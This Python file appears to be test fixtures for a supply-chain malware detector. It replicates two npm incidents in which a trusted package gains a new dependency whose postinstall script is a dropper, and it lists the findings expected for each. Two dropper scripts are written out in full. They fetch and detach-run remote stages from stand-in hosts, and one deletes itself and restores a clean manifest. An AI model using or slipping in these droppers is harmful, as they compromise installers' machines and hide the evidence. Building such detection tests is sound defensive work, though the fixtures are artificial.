"""The popular package changes by one line: a dependency, which does the rest.

The dependant and the dependency are replicas of their own, since either may be the one that is asked about.
"""

from dataclasses import replace

from evals.replicas.ordinary.npm import ciphers, dates, http_client
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript_strings import string_array

_FAMILY = "dropper-dependency"

# ------------------------------------------------------------------------------------- axios 1.14.1, plain-crypto-js

#: Chooses a program by platform, leaves it running in the background, then removes itself and puts a clean manifest
#: in place of its own.
_SETUP = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync, spawn } = require('child_process');

const HOME = 'http://telemetry.wrenmint.invalid:8000/';
const TARGETS = { darwin: 'product0', win32: 'product1', linux: 'product2' };

function place(kind) {
  if (kind === 'darwin') return '/Library/Caches/com.apple.act.mond';
  if (kind === 'win32') return path.join(process.env.PROGRAMDATA || os.tmpdir(), 'wt.exe');
  return '/tmp/ld.py';
}

function fetchStage(kind, target) {
  const body = 'packages.wren.invalid/' + TARGETS[kind];
  execSync('curl -s -o "' + target + '" -d "' + body + '" ' + HOME);
}

function launch(kind, target) {
  if (kind === 'linux') spawn('python3', [target, HOME], { detached: true, stdio: 'ignore' }).unref();
  else if (kind === 'darwin') spawn('/bin/zsh', ['-c', 'chmod 770 ' + target + ' && ' + target + ' ' + HOME + ' &'], { detached: true, stdio: 'ignore' }).unref();
  else spawn('cscript', ['//nologo', target], { detached: true, windowsHide: true, stdio: 'ignore' }).unref();
}

function tidy() {
  fs.unlinkSync(__filename);
  fs.unlinkSync(path.join(__dirname, 'package.json'));
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
}

function main() {
  const kind = TARGETS[os.platform()] ? os.platform() : 'linux';
  const target = place(kind);
  try {
    fetchStage(kind, target);
    launch(kind, target);
  } catch (error) {
    process.exitCode = 0;
  }
  tidy();
}

main();
"""
_CLEAN_MANIFEST = """\
{
  "name": "plain-wren-cipher",
  "version": "4.2.0",
  "description": "Small digests and ciphers without native code.",
  "main": "index.js",
  "license": "MIT"
}
"""
_CIPHER = ciphers("plain-wren-cipher")
_CIPHER_REPOSITORY = {"type": "git", "url": "git+https://code.test/brix/wren-cipher.git"}
_CIPHER_MANIFEST = {
    "description": "Small digests and ciphers without native code.",
    "main": "index.js",
    "license": "MIT",
    "repository": _CIPHER_REPOSITORY,
    "keywords": ["cipher", "digest", "hash"],
}
_CIPHER_DECOY = ReleaseSpec(
    name="plain-wren-cipher",
    version="4.2.0",
    published=at("2026-03-30 05:57"),
    files=_CIPHER,
    manifest=_CIPHER_MANIFEST,
    publisher=("nrwise", "nrwise@letters.test"),
)
_CIPHER_BAD = ReleaseSpec(
    name="plain-wren-cipher",
    version="4.2.1",
    published=at("2026-03-30 23:59"),
    files={**_CIPHER, "setup.js": string_array(_SETUP) or "", "package.md": _CLEAN_MANIFEST},
    manifest={**_CIPHER_MANIFEST, "scripts": {"postinstall": "node setup.js"}},
    publisher=("nrwise", "nrwise@letters.test"),
    payload=("setup.js",),
    plain={"setup.js": _SETUP},
)
_CLIENT = http_client("wrenfetch")
_CLIENT_MANIFEST = {
    "description": "A small HTTP client for Node with promises, JSON and time-outs.",
    "main": "lib/index.js",
    "license": "MIT",
    "repository": {"type": "git", "url": "git+https://code.test/wrenfetch/wrenfetch.git"},
    "scripts": {"test": "node test/headers.test.js"},
    "dependencies": {"follow-hops": "^1.15.6", "form-parcel": "^4.0.0"},
}
_KNOWN = (
    ReleaseSpec(
        name="follow-hops",
        version="1.15.6",
        published=at("2024-03-14 18:00"),
        files={"index.js": "module.exports = (url) => url;\n"},
    ),
    ReleaseSpec(
        name="form-parcel",
        version="4.0.0",
        published=at("2024-02-14 18:00"),
        files={"index.js": "module.exports = class FormParcel {};\n"},
    ),
)
_CLIENT_BEFORE = ReleaseSpec(
    version="1.14.0",
    published=at("2026-03-27 12:04"),
    files=_CLIENT,
    manifest=_CLIENT_MANIFEST,
    publisher=("jsayer", "jsayer@wrenfetch.test"),
    trusted=True,
    provenance=True,
)
_CLIENT_AFTER = replace(
    _CLIENT_BEFORE,
    version="1.14.1",
    published=at("2026-03-31 00:21"),
    manifest={**_CLIENT_MANIFEST, "dependencies": {**_CLIENT_MANIFEST["dependencies"], "plain-wren-cipher": "^4.2.1"}},
    publisher=("jsayer", "ifstap@letters.test"),
    trusted=False,
    provenance=False,
)
_CLIENT_EARLIER = replace(_CLIENT_BEFORE, version="1.13.2", published=at("2026-01-12 09:30"))

# -------------------------------------------------------------------------------------------- Mastra, easy-day-js

_DAYS_SETUP = """\
'use strict';

const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const ENDPOINT = { host: '203.0.113.164', port: 8000, path: '/v1/timezones/' + process.platform };

function save(body) {
  const file = path.join(os.tmpdir(), '.tzdata-' + process.pid);
  fs.writeFileSync(file, body, { mode: 0o755 });
  return file;
}

function start(file) {
  const child = spawn(process.execPath, [file, os.hostname()], { detached: true, stdio: 'ignore', windowsHide: true });
  child.unref();
}

http.get(ENDPOINT, (response) => {
  const parts = [];
  response.on('data', (part) => parts.push(part));
  response.on('end', () => start(save(Buffer.concat(parts))));
}).on('error', () => {});
"""
_DAYS = dates("simple-daylark")
_DAYS_MANIFEST = {
    "main": "index.js",
    "license": "MIT",
    "repository": {"type": "git", "url": "https://code.test/daylark/daylark.git"},
}
_DAYS_OLD = ReleaseSpec(
    name="simple-daylark",
    version="1.11.20",
    published=at("2026-06-01 10:00"),
    files=_DAYS,
    manifest=_DAYS_MANIFEST,
    publisher=("tzkeeper", "tzkeeper@letters.test"),
)
_DAYS_BAD = replace(
    _DAYS_OLD,
    version="1.11.22",
    published=at("2026-06-16 03:40"),
    files={**_DAYS, "scripts/timezones.js": _DAYS_SETUP},
    manifest={**_DAYS_MANIFEST, "scripts": {"postinstall": "node scripts/timezones.js"}},
    payload=("scripts/timezones.js",),
)
_AGENT_FILES = {
    "dist/index.js": """\
'use strict';

const { planSteps } = require('./plan.js');

exports.createAgent = function createAgent({ model, tools = {} }) {
  return {
    async run(task) {
      const results = [];
      for (const step of planSteps(task)) {
        const tool = tools[step.tool];
        results.push(tool ? await tool(step.input) : await model(step.input));
      }
      return results;
    },
  };
};
""",
    "dist/plan.js": "'use strict';\n\nexports.planSteps = (task) => task.split('\\n').filter(Boolean).map((line) => ({ tool: line.split(' ')[0], input: line }));\n",
    "README.md": "# larkstage\n\nAgents that follow a plan.\n",
    "LICENSE": "Apache-2.0\n",
}
_AGENT_BEFORE = ReleaseSpec(
    version="0.20.1",
    published=at("2026-06-12 15:00"),
    files=_AGENT_FILES,
    manifest={"main": "dist/index.js", "license": "Apache-2.0", "dependencies": {"follow-hops": "^1.15.6"}},
    publisher=("larkstage-bot", "releases@larkstage.test"),
    trusted=True,
    provenance=True,
)
_AGENT_AFTER = replace(
    _AGENT_BEFORE,
    version="0.20.2",
    published=at("2026-06-16 04:05"),
    manifest={**_AGENT_BEFORE.manifest, "dependencies": {"follow-hops": "^1.15.6", "simple-daylark": "^1.11.20"}},
    publisher=("ehlark", "ehlark@larkstage.test"),
    trusted=False,
    provenance=False,
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="axios-dependant",
        incident="axios 1.14.1 (2026-03-31)",
        family=_FAMILY,
        ecosystem="npm",
        name="wrenfetch",
        before=_CLIENT_BEFORE,
        after=_CLIENT_AFTER,
        others=(_CLIENT_EARLIER, *_KNOWN, _CIPHER_DECOY, _CIPHER_BAD),
        reasons=(
            "risky-new-dependency",
            "dependency-brings-findings",
            "unseen-dependency-runs-at-install",
            "dependency-never-imported",
            "publisher-changed",
            "provenance-lost",
            "provenance-changed",
        ),
        carrier="plain-wren-cipher",
    ),
    Replica(
        id="axios-dropper",
        incident="plain-crypto-js 4.2.1 (2026-03-30)",
        family=_FAMILY,
        ecosystem="npm",
        name="plain-wren-cipher",
        before=_CIPHER_DECOY,
        after=_CIPHER_BAD,
        history=0,
        reasons=(
            "install-time-download-and-run",
            "hidden-code-that-acts",
            "encoded-code-executed",
            "obfuscated-code",
            "own-traces-removed",
            "install-script-added",
        ),
    ),
    Replica(
        id="mastra-dependant",
        incident="Mastra packages (2026-06)",
        family=_FAMILY,
        ecosystem="npm",
        name="larkstage",
        before=_AGENT_BEFORE,
        after=_AGENT_AFTER,
        others=(*_KNOWN, _DAYS_OLD, _DAYS_BAD),
        reasons=(
            "risky-new-dependency",
            "dependency-brings-findings",
            "unseen-dependency-runs-at-install",
            "dependency-never-imported",
            "publisher-changed",
            "provenance-lost",
            "provenance-changed",
        ),
        carrier="simple-daylark",
    ),
    Replica(
        id="easy-day-js",
        incident="easy-day-js 1.11.22 (2026-06)",
        family=_FAMILY,
        ecosystem="npm",
        name="simple-daylark",
        before=_DAYS_OLD,
        after=_DAYS_BAD,
        history=0,
        reasons=("install-time-download-and-run", "raw-address-contacted", "install-script-added"),
    ),
)
